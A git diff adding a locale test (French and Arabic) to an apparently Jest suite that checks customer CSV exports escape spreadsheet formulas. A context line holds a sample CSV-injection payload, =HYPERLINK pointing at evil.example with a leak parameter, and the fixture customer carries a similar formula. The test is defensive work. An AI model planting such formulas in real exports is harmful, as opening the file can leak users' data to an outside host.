@@ -85,6 +85,32 @@ describe('CSV exports escape every line', () => {
     expect(data.some((row) => row.includes(EVE))).toBe(true);
   });
 
+  it('in French and Arabic: translated comment lines and headers, the same escaping, the same cells', async () => {
+    const english = Papa.parse<string[]>(await csv(`/customers/${ID}/export?format=csv`), {
+      delimiter: ',',
+      skipEmptyLines: true,
+      comments: '#',
+    });
+    for (const locale of ['fr', 'ar']) {
+      const text = await csv(`/customers/${ID}/export?format=csv&locale=${locale}`);
+      expect(liveFormulas(text), locale).toEqual([]);
+      const lines = text.split('\r\n');
+      expect(lines[0]).toContain(`${locale === 'fr' ? 'Export client c360 : ' : 'تصدير عميل c360: '}Eve,'=HYPERLINK(`);
+      expect(lines[1]).toContain(`${TOKEN_NAME} (${locale === 'fr' ? 'administrateur' : 'مسؤول'})`);
+      const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true, comments: '#' });
+      // The header row of each block translated; every other row as in English.
+      const headers = english.data.flatMap((row, i) => (row[0] === 'metric' || (row[0] === 'number' && row[1] === 'placedAt') ? [i] : []));
+      expect(headers).toHaveLength(2);
+      expect(data[headers[0]!]).toEqual(locale === 'fr' ? ['indicateur', 'valeur', 'unité'] : ['المؤشر', 'القيمة', 'الوحدة']);
+      expect(data[headers[1]!]![1]).toBe(locale === 'fr' ? 'passée le' : 'تاريخ الطلب');
+      expect(data.filter((_, i) => !headers.includes(i))).toEqual(english.data.filter((_, i) => !headers.includes(i)));
+      expect(data.some((row) => row[0] === "'-2+3")).toBe(true);
+      const bulk = await csv(`/customers/export.csv?q=${encodeURIComponent('eve@evil.example')}&locale=${locale}`);
+      expect(liveFormulas(bulk), locale).toEqual([]);
+      expect(bulk.split('\r\n')[0]).toContain(`${TOKEN_NAME} (${locale === 'fr' ? 'administrateur' : 'مسؤول'})`);
+    }
+  });
+
   it('a test of this kind can fail: an unescaped formula is found', () => {
     expect(liveFormulas(`# x,${EVE}\r\na,b`)).toEqual(['=HYPERLINK("http://evil.example/?leak=1")']);
   });
